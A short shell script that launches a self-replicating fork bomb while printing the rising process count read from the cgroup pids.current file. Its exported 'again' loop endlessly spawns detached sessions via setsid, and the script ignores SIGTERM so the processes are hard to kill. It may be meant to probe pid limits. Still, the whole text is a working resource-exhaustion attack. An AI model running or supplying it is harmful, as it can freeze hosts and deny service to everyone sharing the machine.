# Says how many processes the kernel counts, whenever there are more than ever; it needs no new one for that.
count() {
  most=0
  for file in /sys/fs/cgroup/pids/pids.current /sys/fs/cgroup/pids.current; do [ ! -r $file ] || break; done
  while read -r now <$file; do
    [ "$now" -le $most ] || { most=$now && echo "processes $most"; }
  done
}
# Each of its processes has a session of its own and ignores TERM.
trap '' TERM
export again='while :; do setsid sh -c "$again" & done'
sh -c "$again" &
count
